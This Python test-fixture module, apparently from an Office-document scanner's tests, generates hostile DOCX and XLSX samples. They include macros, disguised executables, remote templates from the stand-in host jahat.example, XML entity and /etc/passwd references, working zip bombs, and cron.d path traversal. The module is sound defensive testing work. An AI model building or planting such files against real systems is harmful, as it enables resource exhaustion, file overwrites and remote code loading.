"""Hostile Office documents."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from tests.hostile import sound

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_BLOCK = bytes(1024 * 1024)


def _typed(part: str, content_type: str) -> bytes:
    types = sound.content_types({part: content_type})
    return sound.docx(**{"[Content_Types].xml": types})


def macro_part() -> bytes:
    """A macro project under its usual name."""
    return sound.docx(**{"word/vbaProject.bin": OLE2 + bytes(600)})


def renamed_docm() -> bytes:
    """A .docm renamed; the project itself carries another name."""
    return _typed("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")


def macro_sheet() -> bytes:
    """An Excel 4 macro sheet."""
    return _with(sound.xlsx(), {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"})


def _with(whole: bytes, more: dict[str, bytes | str]) -> bytes:
    target = io.BytesIO(whole)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in more.items():
            archive.writestr(name, content)
    return target.getvalue()


def ole_object() -> bytes:
    """An OLE object, which can carry any program."""
    return sound.docx(**{"word/embeddings/oleObject1.bin": OLE2 + bytes(600)})


def embedded_program() -> bytes:
    """A program among the pictures."""
    program = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(100)
    return sound.docx(**{"word/media/image1.png": program})


def embedded_page() -> bytes:
    """A web page that Word would fold into the text."""
    return sound.docx(**{"word/afchunk.mht": "MIME-Version: 1.0"})


def embedded_macro() -> bytes:
    """Macros one level down, in the workbook behind a chart."""
    inner = _with(sound.xlsx(), {"xl/vbaProject.bin": OLE2})
    return sound.zipped(sound.pptx_members() | {"ppt/embeddings/Sheet1.xlsx": inner})


def active_x() -> bytes:
    """An ActiveX control."""
    return sound.docx(**{"word/activeX/activeX1.xml": "<ax:ocx/>"})


def _related(kind: str, target: str) -> bytes:
    return sound.docx(**{"word/_rels/document.xml.rels": sound.relations((kind, target, True))})


def remote_template() -> bytes:
    """Loads its template, with macros, from a server."""
    rels = sound.relations(("attachedTemplate", "https://jahat.example/t.dotm", True))
    return sound.docx(**{"word/_rels/settings.xml.rels": rels})


def remote_object() -> bytes:
    """Loads an object from a server when opened."""
    return _related("oleObject", "mhtml:https://jahat.example/x.html!x-usc:")


def remote_picture() -> bytes:
    """Reports to a server that it was opened."""
    return _related("image", "https://jahat.example/p.png")


def script_link() -> bytes:
    """A link that runs a script."""
    return _related("hyperlink", "javascript:alert(1)")


def linked_workbook() -> bytes:
    """Takes figures from another workbook."""
    rels = sound.relations(("externalLinkPath", "file:///C:/Data/rekap.xlsx", True))
    return _with(sound.xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def dde() -> bytes:
    """Asks another program for data."""
    return _with(sound.xlsx(), {"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='c'/>"})


def entities() -> bytes:
    """Entities that unfold without end."""
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    return sound.docx(**{"word/document.xml": bomb})


def entities_in_utf16() -> bytes:
    """The same in UTF-16, past a plain search."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'
    return sound.docx(**{"customXml/item1.xml": text.encode("utf-16")})


def encrypted() -> bytes:
    """A document locked by Office: an OLE2 container around the encrypted package."""
    return OLE2 + bytes(1016) + "EncryptedPackage".encode("utf-16-le") + bytes(2000)


def old_doc() -> bytes:
    """A .doc renamed."""
    return OLE2 + bytes(1016) + "WordDocument".encode("utf-16-le") + bytes(2000)


def encrypted_zip() -> bytes:
    """A ZIP whose members are locked."""
    return _patched_flags(sound.docx(), 0x1)


def _patched_flags(whole: bytes, flag: int) -> bytes:
    data = bytearray(whole)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= flag
            at = data.find(mark, at + 4)
    return bytes(data)


@cache
def bomb(megabytes: int = 320) -> bytes:
    """One part that unfolds to `megabytes` of nothing."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in sound.docx_members().items():
            archive.writestr(name, content)
        with archive.open("word/media/image1.bmp", "w") as part:
            for _ in range(megabytes):
                part.write(_BLOCK)
    return target.getvalue()


def lying_bomb() -> bytes:
    """The same, but the directory says the part has a hundred bytes."""
    whole = bytearray(bomb(40))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(whole)


def overlapping_bomb() -> bytes:
    """Many directory entries that share one compressed body."""
    content = zlib.compress(_BLOCK * 8, 9)[2:-4]
    crc = zlib.crc32(_BLOCK * 8)
    sizes = struct.pack("<III", crc, len(content), 8 * len(_BLOCK))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes
    body = local + struct.pack("<HH", 1, 0) + b"0" + content
    directory = b""
    for number in range(30):
        name = b"%d" % number
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        directory += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<HHHHIIH", 0, 0, 30, 30, len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def many_members() -> bytes:
    """More parts than any document has."""
    return sound.zipped({f"word/media/{number}": b"" for number in range(5_001)})


def traversal() -> bytes:
    """A part that wants to be written elsewhere."""
    return sound.docx(**{"../../../etc/cron.d/muatan": "x"})


def absolute() -> bytes:
    """A part with an absolute path."""
    return sound.docx(**{"/etc/passwd": "x"})


def duplicate() -> bytes:
    """Two main parts: a scanner reads one, Word the other."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _with(sound.docx(), {"word/document.xml": "<w:document/>"})


def broken_crc() -> bytes:
    """A flipped bit in a stored part."""
    target = io.BytesIO(sound.docx())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/media/image1.bin", b"gambar asli")
    return target.getvalue().replace(b"gambar asli", b"gambar a5li")


def truncated() -> bytes:
    """The line broke."""
    return sound.xlsx()[:-500]


def glued() -> bytes:
    """A web page behind the document."""
    return sound.docx() + b"<html><script>alert(1)</script></html>"


def plain_zip() -> bytes:
    """An archive with a document's extension."""
    return sound.zipped({"foto.jpg": b"x"})


CASES: tuple[tuple[str, str, Callable[[], bytes], str, str], ...] = (
    ("makro", "notula.docx", macro_part, "makro", "memuat makro (word/vbaproject.bin)"),
    ("docm", "notula.docx", renamed_docm, "makro", "tanpa makro"),
    ("makro-excel-4", "rekap.xlsx", macro_sheet, "makro", "memuat makro"),
    ("makro-tertanam", "paparan.pptx", embedded_macro, "makro", "xl/vbaproject.bin"),
    ("objek-ole", "notula.docx", ole_object, "objek_tanam", "oleObject1.bin"),
    ("program", "notula.docx", embedded_program, "objek_tanam", "image1.png"),
    ("mht", "notula.docx", embedded_page, "objek_tanam", "afchunk.mht"),
    ("activex", "notula.docx", active_x, "activex", "kontrol ActiveX"),
    ("templat-luar", "notula.docx", remote_template, "templat_luar", "templat dari luar"),
    ("objek-luar", "notula.docx", remote_object, "tautan_luar", "dari luar dokumen"),
    ("gambar-luar", "notula.docx", remote_picture, "tautan_luar", "jahat.example/p.png"),
    ("tautan-skrip", "notula.docx", script_link, "tautan_luar", "javascript:alert(1)"),
    ("buku-lain", "rekap.xlsx", linked_workbook, "tautan_luar", "Break Link"),
    ("dde", "rekap.xlsx", dde, "tautan_luar", "(DDE)"),
    ("entitas", "notula.docx", entities, "xml_entitas", "DOCTYPE di word/document.xml"),
    ("entitas-utf16", "notula.docx", entities_in_utf16, "xml_entitas", "customXml/item1.xml"),
    ("bersandi", "notula.docx", encrypted, "terkunci_sandi", "tanpa sandi"),
    ("zip-bersandi", "notula.docx", encrypted_zip, "terkunci_sandi", "tanpa sandi"),
    ("doc-lama", "notula.docx", old_doc, "format_lama", "Simpan ulang sebagai .docx"),
    ("bom", "notula.docx", bomb, "bom", "mengembang jauh melebihi ukurannya"),
    ("bom-berbohong", "notula.docx", lying_bomb, "rusak", "rusak atau terpotong"),
    ("bom-bertumpuk", "notula.docx", overlapping_bomb, "bom", "bagian yang bertumpuk"),
    ("banyak-bagian", "notula.docx", many_members, "bom", "5000 bagian"),
    ("jalur-keluar", "notula.docx", traversal, "nama_anggota", "../../../etc/cron.d/muatan"),
    ("jalur-mutlak", "notula.docx", absolute, "nama_anggota", "/etc/passwd"),
    ("bagian-ganda", "notula.docx", duplicate, "anggota_ganda", "word/document.xml"),
    ("crc", "notula.docx", broken_crc, "rusak", "tidak dapat dibuka sebagai DOCX"),
    ("terpotong", "rekap.xlsx", truncated, "rusak", "tidak dapat dibuka sebagai XLSX"),
    ("html-menempel", "notula.docx", glued, "berkas_ganda", "setelah akhir dokumen"),
    ("zip-biasa", "notula.docx", plain_zip, "isi_berbeda", "arsip ZIP biasa"),
    ("xlsx-bernama-docx", "rekap.docx", sound.xlsx, "isi_berbeda", "isinya dokumen XLSX"),
)
